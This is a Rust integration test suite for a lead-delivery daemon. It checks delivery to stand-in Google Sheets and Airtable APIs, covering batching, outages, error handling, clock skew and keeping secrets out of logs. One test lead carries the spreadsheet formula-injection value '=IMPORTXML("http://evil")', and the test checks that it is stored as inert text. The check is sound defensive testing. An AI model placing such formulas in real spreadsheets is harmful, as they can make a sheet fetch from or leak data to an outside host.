//! Leads in Google Sheets and Airtable, against stand-ins that hold to what their documentation says and refuse everything else.

use crate::support::http::Client;
use crate::support::{ACCOUNT, ACCOUNT_KEY, Daemon, Delivery, Home, Receiver, Reply, eventually, service_account};
use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use leadsbotd::time::{Clock, SystemClock};
use ring::signature::{RSA_PKCS1_2048_8192_SHA256, RsaKeyPair, UnparsedPublicKey};
use rustls::pki_types::PrivatePkcs8KeyDer;
use rustls::pki_types::pem::PemObject;
use serde_json::{Value, json};
use std::collections::{BTreeMap, BTreeSet};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};

fn reply(status: u16, body: &Value) -> Reply {
    Reply { body: body.to_string(), ..Reply::status(status) }
}

fn google_error(status: u16, word: &str, message: &str) -> Reply {
    reply(status, &json!({"error":{"code":status,"message":message,"status":word}}))
}

/// Google's token endpoint and Sheets API, as far as they are documented.
#[derive(Default)]
struct Google {
    tokens: AtomicUsize,
    rows: Mutex<Vec<Vec<Value>>>,
    /// The answers to the next requests for rows, before any is taken.
    next: Mutex<Vec<Reply>>,
    /// Seconds that Google's clock is ahead.
    ahead: Mutex<i64>,
}

impl Google {
    fn answer(&self, d: &Delivery) -> Reply {
        match (d.method.as_str(), d.path.as_str()) {
            ("POST", "/token") => self.token(d),
            ("POST", "/v4/spreadsheets/1abc-DEF_2/values/'Leads%202026'!A1:append?valueInputOption=RAW&insertDataOption=INSERT_ROWS") => {
                self.append(d)
            }
            _ => google_error(404, "NOT_FOUND", "Requested entity was not found."),
        }
    }

    fn token(&self, d: &Delivery) -> Reply {
        assert_eq!(d.header("content-type"), "application/x-www-form-urlencoded");
        let form: BTreeMap<String, String> = form_urlencoded::parse(&d.body).into_owned().collect();
        assert_eq!(form["grant_type"], "urn:ietf:params:oauth:grant-type:jwt-bearer");
        let (signed, signature) = form["assertion"].rsplit_once('.').unwrap();
        let decoded = |part: &str| URL_SAFE_NO_PAD.decode(part).unwrap();
        let pair = RsaKeyPair::from_pkcs8(PrivatePkcs8KeyDer::from_pem_slice(ACCOUNT_KEY.as_bytes()).unwrap().secret_pkcs8_der()).unwrap();
        let public = UnparsedPublicKey::new(&RSA_PKCS1_2048_8192_SHA256, pair.public().as_ref());
        public.verify(signed.as_bytes(), &decoded(signature)).expect("a signature of the account's key");
        let parts: Vec<Value> = signed.split('.').map(|part| serde_json::from_slice(&decoded(part)).unwrap()).collect();
        assert_eq!(parts[0], json!({"alg":"RS256","typ":"JWT","kid":"0123456789abcdef"}));
        let claims = &parts[1];
        assert_eq!(
            (claims["iss"].as_str(), claims["scope"].as_str()),
            (Some(ACCOUNT), Some("https://www.googleapis.com/auth/spreadsheets"))
        );
        assert!(claims["aud"].as_str().unwrap().ends_with("/token") && claims["aud"].as_str().unwrap().contains(d.header("host")));
        let (iat, exp) = (claims["iat"].as_i64().unwrap(), claims["exp"].as_i64().unwrap());
        assert!(exp > iat && exp - iat <= 3600);
        let now = SystemClock.wall().seconds() + *self.ahead.lock().unwrap();
        if (now - iat).abs() > 300 {
            let about = "Invalid JWT: Token must be a short-lived token (60 minutes) and in a reasonable timeframe. Check your iat and exp values in the JWT claim.";
            return reply(400, &json!({"error":"invalid_grant","error_description":about}));
        }
        let n = self.tokens.fetch_add(1, Ordering::SeqCst) + 1;
        reply(200, &json!({"access_token":format!("ya29.token-{n}"),"expires_in":3599,"token_type":"Bearer"}))
    }

    fn append(&self, d: &Delivery) -> Reply {
        assert_eq!(d.header("content-type"), "application/json");
        let newest = format!("Bearer ya29.token-{}", self.tokens.load(Ordering::SeqCst));
        if d.header("authorization") != newest {
            return google_error(401, "UNAUTHENTICATED", "Request had invalid authentication credentials.");
        }
        if let Some(next) = self.next.lock().unwrap().pop() {
            return next;
        }
        let body = d.json();
        let known: BTreeSet<&str> = body.as_object().unwrap().keys().map(String::as_str).collect();
        assert!(known.is_subset(&BTreeSet::from(["range", "majorDimension", "values"])), "{known:?}");
        assert!(body.get("majorDimension").is_none_or(|m| m == "ROWS"));
        let values = body["values"].as_array().unwrap();
        for cell in values.iter().flat_map(|row| row.as_array().unwrap()) {
            if !(cell.is_string() || cell.is_number() || cell.is_boolean()) {
                return google_error(400, "INVALID_ARGUMENT", "Invalid value at 'data.values'");
            }
            if cell.as_str().is_some_and(|text| text.contains("Poison")) {
                return google_error(400, "INVALID_ARGUMENT", "Your input contains what it must not.");
            }
        }
        assert!(values.len() <= 100 && d.body.len() <= 2 << 20);
        self.rows.lock().unwrap().extend(values.iter().map(|row| row.as_array().unwrap().clone()));
        reply(200, &json!({"spreadsheetId":"1abc-DEF_2","tableRange":"A1","updates":{"updatedRows":values.len()}}))
    }

    fn ids(&self) -> Vec<String> {
        self.rows.lock().unwrap().iter().map(|row| row[0].as_str().unwrap().to_owned()).collect()
    }
}

struct Sheet {
    google: Arc<Google>,
    receiver: Receiver,
    home: Home,
}

impl Sheet {
    fn new() -> Self {
        let google = Arc::new(Google::default());
        let answering = Arc::clone(&google);
        let receiver = Receiver::start(move |d| answering.answer(d));
        let home = Home::new("");
        let key = home.path("google.json");
        std::fs::write(&key, service_account(&format!("http://{}/token", receiver.address))).unwrap();
        home.configure(&format!(
            "[[destination]]\nname = \"sheet\"\ntype = \"google_sheets\"\nspreadsheet = \"1abc-DEF_2\"\nsheet = \"Leads 2026\"\n\
             base_url = \"http://{}\"\ncredentials = {{ secret_file = {key:?} }}\n\
             columns = {{ Name = \"data.name\", Message = \"data.message\", Score = \"data.score\", Phone = \"data.phone\" }}\n",
            receiver.address
        ));
        Self { google, receiver, home }
    }

    fn nothing_waits(&self) {
        eventually("every delivery is done", || self.home.ok(&["queue", "list"]).contains("nothing is waiting"));
    }
}

fn state(client: &Client) -> String {
    client.get("/readyz").json()["destinations"][0]["state"].as_str().unwrap().to_owned()
}

fn reason(client: &Client) -> String {
    client.get("/readyz").json()["destinations"][0]["reason"].as_str().unwrap().to_owned()
}

#[test]
fn leads_become_rows_of_a_sheet_with_one_token_for_all_and_stay_text() {
    let sheet = Sheet::new();
    let preview = sheet.home.ok(&["preview", "sheet"]);
    assert!(preview.contains("append?valueInputOption=RAW") && preview.contains("Authorization: (hidden)"), "{preview}");
    let daemon = Daemon::start(&sheet.home);
    let client = Client::new(daemon.address);
    let (_, first) = client.lead(&json!({"name":"Zoë","message":"=IMPORTXML(\"http://evil\")","score":88}));
    eventually("a row", || sheet.google.ids().len() == 1);
    let row = sheet.google.rows.lock().unwrap()[0].clone();
    assert_eq!(row, [json!(first), json!("Zoë"), json!("=IMPORTXML(\"http://evil\")"), json!(88), json!("")]);
    let mut all = BTreeSet::from([first]);
    for n in 0..30 {
        all.insert(client.lead(&json!({"name":format!("Lead {n}")})).1);
    }
    eventually("all rows", || sheet.google.ids().len() == 31);
    assert_eq!(sheet.google.ids().into_iter().collect::<BTreeSet<_>>(), all);
    assert_eq!(sheet.google.tokens.load(Ordering::SeqCst), 1, "a token is kept");

    // The token is taken back: it is asked for anew within the same attempt.
    sheet.google.tokens.fetch_add(1, Ordering::SeqCst);
    client.lead(&json!({"name":"After"}));
    eventually("a row more", || sheet.google.ids().len() == 32);
    assert_eq!(sheet.google.tokens.load(Ordering::SeqCst), 3);
    sheet.nothing_waits();
    let (_, log) = daemon.stop();
    for secret in ["ya29", "PRIVATE KEY", "Zoë", "assertion"] {
        assert!(!log.contains(secret), "the log holds {secret}:\n{log}");
    }
    let said = sheet.home.ok(&["trigger", "sheet"]);
    assert!(said.contains("answer: HTTP 200 (hidden)") && !said.contains("ya29") && !said.contains("assertion"), "{said}");
    assert!(said.contains("delivered"), "{said}");
}

#[test]
fn rows_wait_together_through_an_outage_and_a_poison_row_keeps_no_other() {
    let mut sheet = Sheet::new();
    sheet.receiver.down();
    let daemon = Daemon::start(&sheet.home);
    let client = Client::new(daemon.address);
    let mut all = BTreeSet::new();
    for n in 0..60 {
        let (_, event) = client.lead(&json!({"name":if n == 30 { "Poison".to_owned() } else { format!("Lead {n}") }}));
        if n != 30 {
            all.insert(event);
        }
    }
    sheet.receiver.up();
    eventually("all but one", || sheet.google.ids().len() == 59);
    assert_eq!(sheet.google.ids().into_iter().collect::<BTreeSet<_>>(), all);
    eventually("it is put aside", || sheet.home.ok(&["queue", "list", "--state", "dead"]).contains("evt_"));
    let most = sheet.receiver.seen().iter().filter(|d| d.path != "/token").map(|d| d.json()["values"].as_array().unwrap().len()).max();
    assert!(most > Some(10), "{most:?}");
}

#[test]
fn what_is_wrong_with_a_sheet_holds_everything_and_says_what_to_do() {
    let sheet = Sheet::new();
    let daemon = Daemon::start(&sheet.home);
    let client = Client::new(daemon.address);
    for (n, (answer, held, words)) in [
        (google_error(403, "PERMISSION_DENIED", "The caller does not have permission"), "blocked", ACCOUNT),
        (google_error(400, "INVALID_ARGUMENT", "Unable to parse range: Leads 2026!A1"), "blocked", "no tab"),
        (google_error(400, "INVALID_ARGUMENT", "Range (A1) exceeds grid limits. Max rows: 1000"), "blocked", "full"),
        (google_error(503, "UNAVAILABLE", "The service is currently unavailable."), "throttled", "later"),
        (google_error(429, "RESOURCE_EXHAUSTED", "Quota exceeded").header("retry-after", "2"), "throttled", "429"),
    ]
    .into_iter()
    .enumerate()
    {
        // Long enough for a probe or two to meet it.
        *sheet.google.next.lock().unwrap() = vec![answer; 3];
        client.lead(&json!({"name":format!("Lead {n}")}));
        eventually(words, || state(&client) == held && reason(&client).contains(words));
        eventually("it goes on", || sheet.google.ids().len() == n + 1);
    }
    assert!(!sheet.home.ok(&["queue", "list", "--state", "dead"]).contains("evt_"), "a lead was given up");
}

#[test]
fn a_clock_that_google_does_not_believe_holds_the_lane_and_no_lead_is_counted() {
    let sheet = Sheet::new();
    *sheet.google.ahead.lock().unwrap() = 7200;
    let daemon = Daemon::start(&sheet.home);
    let client = Client::new(daemon.address);
    client.lead(&json!({"name":"Early"}));
    eventually("it waits for the clock", || state(&client) == "clock" && reason(&client).contains("not the time"));
    *sheet.google.ahead.lock().unwrap() = 0;
    eventually("it arrives", || sheet.google.ids().len() == 1);
}

#[test]
fn a_script_of_the_owner_gets_rows_and_its_answer_is_fetched_elsewhere() {
    let rows: Arc<Mutex<Vec<String>>> = Arc::default();
    let kept = Arc::clone(&rows);
    // As doPost of docs/destinations.md: a row whose id is there is not added again.
    let receiver = Receiver::start(move |d| match (d.method.as_str(), d.path.as_str()) {
        ("POST", "/macros/s/AKfycb-secret/exec") => {
            let body = d.json();
            assert_eq!(body["columns"][0], "event_id");
            let mut kept = kept.lock().unwrap();
            for row in body["rows"].as_array().unwrap() {
                let id = row[0].as_str().unwrap().to_owned();
                if !kept.contains(&id) {
                    kept.push(id);
                }
            }
            Reply::status(302).header("location", format!("http://{}/macros/echo?user_content_key=k", d.header("host")))
        }
        ("GET", "/macros/echo?user_content_key=k") => {
            assert!(d.body.is_empty() && d.header("content-type").is_empty());
            reply(200, &json!({"ok":true}))
        }
        other => panic!("{other:?}"),
    });
    let home = Home::new(&format!(
        "[[destination]]\nname = \"sheet\"\ntype = \"google_sheets\"\napps_script_url = \"http://{}/macros/s/AKfycb-secret/exec\"\n\
         redirect_host = \"127.0.0.1\"\n",
        receiver.address
    ));
    let daemon = Daemon::start(&home);
    let client = Client::new(daemon.address);
    let all: BTreeSet<String> = (0..5).map(|n| client.lead(&json!({"name":format!("Lead {n}")})).1).collect();
    eventually("all rows", || rows.lock().unwrap().len() == 5);
    assert_eq!(rows.lock().unwrap().iter().cloned().collect::<BTreeSet<_>>(), all);
    eventually("every delivery is done", || home.ok(&["queue", "list"]).contains("nothing is waiting"));
    receiver.script(|_| Reply { body: "<!DOCTYPE html><title>Sign in</title>".to_owned(), ..Reply::status(404) });
    client.lead(&json!({"name":"Undeployed"}));
    eventually("it is held", || state(&client) == "blocked" && reason(&client).contains("access for anyone"));
    let (_, log) = daemon.stop();
    assert!(!log.contains("AKfycb"), "{log}");
}

/// Airtable's records of one table, by the value of the field that is merged on.
#[derive(Default)]
struct Table {
    records: Mutex<BTreeMap<String, Value>>,
    next: Mutex<Vec<Reply>>,
}

const FIELDS: [&str; 4] = ["Event ID", "Name", "Score", "Message"];

fn airtable_error(status: u16, kind: &str) -> Reply {
    reply(status, &json!({"error":{"type":kind,"message":"about it"}}))
}

impl Table {
    fn answer(&self, d: &Delivery) -> Reply {
        if d.header("authorization") != "Bearer patTEST.0123456789" {
            return airtable_error(401, "AUTHENTICATION_REQUIRED");
        }
        if (d.method.as_str(), d.path.as_str()) != ("PATCH", "/v0/appAbC123/Leads%20%2F%202026") {
            return airtable_error(403, "INVALID_PERMISSIONS_OR_MODEL_NOT_FOUND");
        }
        if let Some(next) = self.next.lock().unwrap().pop() {
            return next;
        }
        let body = d.json();
        let known: BTreeSet<&str> = body.as_object().unwrap().keys().map(String::as_str).collect();
        assert_eq!(known, BTreeSet::from(["performUpsert", "records", "typecast"]));
        assert_eq!(body["performUpsert"], json!({"fieldsToMergeOn":["Event ID"]}));
        let records = body["records"].as_array().unwrap();
        if records.is_empty() || records.len() > 10 {
            return airtable_error(422, "INVALID_RECORDS");
        }
        for record in records {
            let fields = record["fields"].as_object().unwrap();
            if fields.keys().any(|field| !FIELDS.contains(&field.as_str())) {
                return airtable_error(422, "UNKNOWN_FIELD_NAME");
            }
            if fields["Name"] == "Poison" {
                return airtable_error(422, "INVALID_VALUE_FOR_COLUMN");
            }
        }
        let mut kept = self.records.lock().unwrap();
        let made: Vec<Value> = records
            .iter()
            .map(|record| {
                kept.insert(record["fields"]["Event ID"].as_str().unwrap().to_owned(), record["fields"].clone());
                json!({"id":"rec0123456789","createdTime":"2026-11-23T12:00:00.000Z","fields":record["fields"]})
            })
            .collect();
        reply(200, &json!({"records":made,"createdRecords":[],"updatedRecords":[]}))
    }
}

fn airtable(fields: &str) -> (Arc<Table>, Receiver, Home) {
    let table: Arc<Table> = Arc::default();
    let answering = Arc::clone(&table);
    let receiver = Receiver::start(move |d| answering.answer(d));
    let home = Home::new(&format!(
        "[[destination]]\nname = \"base\"\ntype = \"airtable\"\nbase = \"appAbC123\"\ntable = \"Leads / 2026\"\n\
         secret = \"patTEST.0123456789\"\nbase_url = \"http://{}\"\nfields = {{ {fields} }}\n",
        receiver.address
    ));
    (table, receiver, home)
}

#[test]
fn leads_become_records_ten_at_a_time_and_never_two_for_one() {
    let (table, mut receiver, home) = airtable("Name = \"data.name\", Score = \"data.score\", Message = \"data.message\"");
    receiver.down();
    let daemon = Daemon::start(&home);
    let client = Client::new(daemon.address);
    let mut all = BTreeSet::new();
    for n in 0..35 {
        let (_, event) = client.lead(&json!({"name":if n == 7 { "Poison".to_owned() } else { format!("Lead {n}") }}));
        if n != 7 {
            all.insert(event);
        }
    }
    // What was taken while the answer was lost comes again, and is the same record.
    *table.next.lock().unwrap() = vec![airtable_error(500, "SERVER_ERROR")];
    receiver.up();
    eventually("all but one", || table.records.lock().unwrap().len() == 34);
    assert_eq!(table.records.lock().unwrap().keys().cloned().collect::<BTreeSet<_>>(), all);
    eventually("it is put aside", || home.ok(&["queue", "list", "--state", "dead"]).contains("evt_"));
    let most = receiver.taken().iter().map(|d| d.json()["records"].as_array().unwrap().len()).max();
    assert_eq!(most, Some(10));
    let (_, log) = daemon.stop();
    assert!(!log.contains("patTEST"), "{log}");
}

#[test]
fn a_table_that_does_not_fit_and_a_plan_that_is_used_up_hold_everything() {
    let (table, receiver, home) = airtable("Name = \"data.name\", Company = \"data.name\"");
    let daemon = Daemon::start(&home);
    let client = Client::new(daemon.address);
    client.lead(&json!({"name":"Jane"}));
    eventually("it is blocked", || state(&client) == "blocked" && reason(&client).contains("no field"));
    let answering = Arc::clone(&table);
    // The operator adds the field.
    receiver.script(move |d| {
        let mut d = d.clone();
        d.body = String::from_utf8(d.body).unwrap().replace("\"Company\"", "\"Message\"").into_bytes();
        answering.answer(&d)
    });
    eventually("it goes on", || table.records.lock().unwrap().len() == 1);
    *table.next.lock().unwrap() = vec![airtable_error(429, "PUBLIC_API_BILLING_LIMIT_EXCEEDED"); 3];
    client.lead(&json!({"name":"Ann"}));
    eventually("it is blocked", || state(&client) == "blocked" && reason(&client).contains("for this month"));
    eventually("it goes on", || table.records.lock().unwrap().len() == 2);
    *table.next.lock().unwrap() = vec![airtable_error(429, "RATE_LIMIT_REACHED").header("retry-after", "1")];
    client.lead(&json!({"name":"Eve"}));
    eventually("it goes on", || table.records.lock().unwrap().len() == 3);
    assert!(!home.ok(&["queue", "list", "--state", "dead"]).contains("evt_"));
}
